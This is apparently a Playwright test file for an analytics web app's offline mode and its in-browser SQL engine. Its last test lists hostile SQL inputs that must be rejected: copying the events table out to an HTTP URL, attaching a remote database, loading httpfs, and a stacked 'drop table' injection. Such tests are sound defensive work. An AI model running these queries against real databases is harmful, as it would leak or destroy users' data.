import { expect, test } from "./app-test.ts";
import { ask, call, createProject, expectNoDrift, failureOf, importFixture } from "./call-app.ts";
import { SAMPLE } from "./git-activity.ts";

const range = { from: Date.UTC(2020, 0, 1) + 1, to: Date.UTC(2026, 0, 1) };
const filtered = { measure: "users", window: range, filters: [{ property: "ext", op: "is", value: "ts" }] };

test.describe("with the network gone after Offline ready (I8)", () => {
  test.use({ installed: true });

  // The browser itself reports each request it could not make; none of them is awaited by the app.
  test.use({ expectedComplaints: [/ERR_INTERNET_DISCONNECTED/] });

  test("the app reloads, answers an ad-hoc question and SQL, and takes new events", async ({
    app,
    profile,
  }) => {
    test.setTimeout(180_000);
    const project = await createProject(app, "Offline");
    await importFixture(app, project, SAMPLE);
    await app.goto(`/?project=${project}`);
    const online = await ask(app, project, filtered);
    await expect(app.getByText("Offline ready")).toBeVisible({ timeout: 90_000 });

    await profile.setOffline(true);
    await app.reload();
    await app.waitForFunction(() => "lochanApp" in window);
    await expect(app.getByText("Offline ready")).toBeVisible({ timeout: 60_000 });

    expect((await ask(app, project, filtered)).total).toBe(online.total);
    const counted = await call(app, "sql", project, "select count(*) as n from events");
    expect(counted.rows).toEqual([[44_319]]);

    const late = { name: "late", distinctId: "me", timestamp: Date.UTC(2021, 5, 1) };
    expect(await call(app, "append", project, [late])).toMatchObject({ accepted: 1 });
    const after = await ask(app, project, { measure: "events", window: range });
    const before = await ask(app, project, {
      measure: "events",
      window: range,
      filters: [{ property: "$name", op: "is-not", value: "late" }],
    });
    expect(after.total - before.total).toBe(1);
    await expectNoDrift(app, project);
  });

  test("each page opens straight from its address", async ({ app, profile }) => {
    const project = await createProject(app, "Offline");
    await app.goto(`/?project=${project}`);
    await expect(app.getByText("Offline ready")).toBeVisible({ timeout: 90_000 });
    await profile.setOffline(true);
    for (const path of [
      "/",
      "/live",
      "/lab",
      "/plan",
      "/sources",
      "/data",
      "/settings",
      "/help",
      "/help/snippet",
      "/demo/",
      "/bridge.html",
    ]) {
      const response = await app.goto(`${path}?project=${project}`);
      expect(response?.fromServiceWorker(), path).toBe(true);
      expect(response?.ok(), path).toBe(true);
    }
    await app.goto("/demo");
    expect(new URL(app.url()).pathname).toBe("/demo/");
  });
});

test("SQL reaches no network (I8)", async ({ app }) => {
  const project = await createProject(app, "SQL");
  await call(app, "append", project, [{ name: "seen", distinctId: "me", timestamp: Date.now() }]);
  expect((await call(app, "sql", project, "select count(*) from events")).rows).toEqual([[1]]);
  for (const text of [
    "select * from read_csv('http://example.com/x.csv')",
    "select * from 'https://example.com/x.parquet'",
    "attach 'http://example.com/x.db' as stolen",
    "copy (select * from events) to 'http://example.com/x.csv'",
    "install httpfs",
    "load httpfs",
    "set enable_external_access = true",
    "select * from events; drop table events",
  ]) {
    const failure = await failureOf(app, "sql", project, text);
    expect(failure.message.length, text).toBeGreaterThan(10);
  }
  expect((await call(app, "sql", project, "select count(*) from events")).rows).toEqual([[1]]);
});
